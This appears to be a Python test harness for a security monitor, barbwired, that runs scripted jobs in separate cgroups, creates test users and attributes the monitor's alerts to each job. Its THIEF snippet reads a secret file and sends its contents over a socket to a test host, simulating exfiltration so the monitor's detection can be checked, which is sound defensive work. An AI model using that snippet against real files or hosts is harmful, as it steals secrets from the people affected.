# SPDX-License-Identifier: GPL-2.0-or-later
"""Plays jobs, each in a control group of its own, by which every record of barbwired is attributed to its job."""

import contextlib
import os
import select
import threading
import time
from dataclasses import dataclass, field

import tap
from jobs import Chain
from net import HOST_V4
from servers import ADDRESS

HOMES = "/home"
FIRST_UID = 40000
JOB_TIMEOUT = int(60 * tap.SLOW)
EMPTY_TIMEOUT_MS = int(10000 * tap.SLOW)
DEPTH = 5  # a script is judged by what its lineage read, too: the test is farther away than that

THIEF = """
import socket, sys
secret = open(sys.argv[1], "rb").read()
socket.create_connection((sys.argv[2], 443)).sendall(secret[:4096])
"""

# What jobs change outside /etc.
OVERLAYS = """
for d in /var/lib /var/cache /var/mail; do
    mkdir -p "$1/over$d" "$1/work$d"
    mount -t overlay -o "lowerdir=$d,upperdir=$1/over$d,workdir=$1/work$d" overlay "$d"
done
"""

# The cgroup, and then the shells, all of them above the user's login.
ENTER = 'echo $$ >"$0/cgroup.procs"; exec "$@"'
DEEPER = '"$@"; exit'


@dataclass
class Result:
    chain: Chain
    name: str
    theft: tuple = None  # severity, path or None; a job has none
    status: int = 0
    said: str = ""
    seconds: float = 0
    records: list = field(default_factory=list)


def cgroup_root():
    with open("/proc/self/mountinfo", encoding="utf-8") as mounts:
        for line in mounts:
            left, _, right = line.partition(" - ")
            if right.split()[0] == "cgroup2":
                return left.split()[4]
    return None


def wait_empty(folder):
    """Waits until all processes of a control group have ended, as cgroup.events tells."""
    with open(f"{folder}/cgroup.events", encoding="ascii") as events:
        change = select.poll()
        change.register(events, select.POLLPRI)
        while "populated 1" in events.read():
            change.poll(EMPTY_TIMEOUT_MS)
            events.seek(0)


class Player:
    def __init__(self, net, world):
        self.net, self.world, self.results = net, world, []
        self.mark, self.folders = f"barbwire-week-{os.getpid()}", []
        self.lock = threading.Lock()
        self.uids = {}

    def __enter__(self):
        self.world.do("mount", "-t", "tmpfs", "-o", "mode=755,size=600m", "tmpfs", HOMES)
        self.world.do("sh", "-ec", OVERLAYS, "sh", f"{self.world.root}/world")
        return self

    def __exit__(self, *exception):
        for folder in self.folders:
            with open(f"{folder}/cgroup.kill", "w", encoding="ascii") as kill:
                kill.write("1")
        for folder in self.folders:
            wait_empty(folder)
            # Other tests may have groups in the outer ones.
            with contextlib.suppress(OSError):
                while folder != cgroup_root():
                    os.rmdir(folder)
                    folder = os.path.dirname(folder)

    @classmethod
    def missing(cls, chain):
        return [p for p in chain.needs if not cls.has(p)]

    @staticmethod
    def has(program):
        where = [program] if "/" in program else [f"{d}/{program}" for d in
                                                  ("/usr/local/sbin", "/usr/local/bin", "/usr/sbin", "/usr/bin")]
        return any(os.path.exists(path) for path in where)

    def home(self, chain):
        return self.world.home_of("root") if chain.user == "root" else f"{HOMES}/{chain.name}"

    def prepare(self, chains):
        """Makes the users of these chains, and their files."""
        passwd = group = shadow = ""
        script = "umask 022\n"
        for n, chain in enumerate(chains):
            home = self.home(chain)
            if chain.user != "root":
                self.uids[chain.name] = uid = FIRST_UID + n
                passwd += f"{chain.name}:x:{uid}:{uid}:{chain.name}:{home}:/bin/bash\n"
                group += f"{chain.name}:x:{uid}:\n"
                shadow += f"{chain.name}:*:19700:0:99999:7:::\n"
                script += f"install -d -m 755 -o {uid} -g {uid} {home}\n"
            for mode, path, text in chain.files:
                own = not path.startswith("/") and chain.user != "root"
                full = path if path.startswith("/") else f"{home}/{path}"
                script += f"mkdir -p \"$(dirname '{full}')\"\n"
                if own:
                    directory = os.path.dirname(path)
                    while directory:
                        script += f"chown {uid}:{uid} '{home}/{directory}'\n"
                        directory = os.path.dirname(directory)
                script += f"cat >'{full}' <<'END-OF-FILE'\n{text}END-OF-FILE\nchmod {mode} '{full}'\n"
                if own:
                    script += f"chown {uid}:{uid} '{full}'\n"
        self.world.do("sh", "-ec", "cat >>/etc/passwd", stdin=passwd)
        self.world.do("sh", "-ec", "cat >>/etc/group", stdin=group)
        self.world.do("sh", "-ec", "cat >>/etc/shadow", stdin=shadow)
        self.world.do("sh", "-e", stdin=script)
        for chain in chains:
            if chain.setup:
                self.world.do("bash", "-ec", chain.setup.replace("~/", f"{self.home(chain)}/"))

    def play(self, chain):
        """Plays the jobs of a chain, and its thief. One at a time of each chain; chains may play side by side."""
        for name, script in chain.jobs:
            self.play_one(chain, name, ["bash", "-c", script])
        for severity, text, script in chain.thefts:
            self.play_one(chain, text, ["bash", "-c", script], (severity, None))
        for severity, path in chain.thief:
            path = path.replace("~", self.home(chain), 1)
            self.play_one(chain, f"a program that no rule names and {os.path.basename(path)}",
                          ["/usr/bin/python3", "-c", THIEF, path, HOST_V4], (severity, path))

    def play_one(self, chain, name, command, theft=None):
        result = Result(chain, name, theft)
        with self.lock:
            number = len(self.results)
            self.results.append(result)
        # Which unit it is in, the outermost names say.
        folder = os.path.join(cgroup_root(), f"system.slice/{chain.unit}" if chain.unit else "", self.mark, str(number))
        os.makedirs(folder, exist_ok=True)
        self.folders.append(folder)
        home = self.home(chain)
        user = "root" if chain.user == "root" else chain.name
        command = self.world.command(user, command, HOME=home, LANG="C.UTF-8", URL=f"http://{HOST_V4}/",
                                       HOST=HOST_V4, API="https://api.example.com/", SERVER=ADDRESS)
        command[command.index("-C") + 1] = home
        for _ in range(DEPTH):
            command = ["sh", "-c", DEEPER, "sh", *command]
        command = ["setsid", "sh", "-c", ENTER, folder, "timeout", "-k", "1", str(JOB_TIMEOUT), *command]
        with open(f"/var/log/barbwire-week-{os.getpid()}-{number}", "w+", encoding="utf-8", errors="replace") as out:
            os.unlink(out.name)
            begin = time.monotonic()
            process = self.net.popen(command, stdout=out, stderr=out)
            result.status = process.wait()
            result.seconds = time.monotonic() - begin
            out.seek(0)
            result.said = out.read()
        return result

    def attribute(self, alerts):
        """Gives each record to the job that it belongs to; returns those of no job."""
        rest = []
        for record in alerts:
            _, mine, number = (record["process"]["cgroup"] or "").partition(f"/{self.mark}/")
            if mine:
                self.results[int(number.split("/")[0])].records.append(record)
            elif record["process"]["comm"] != "technique-out-t" or \
                    not all(f["path"].startswith("/tmp/barbwire-") for f in record["files"]):
                rest.append(record)
        return rest
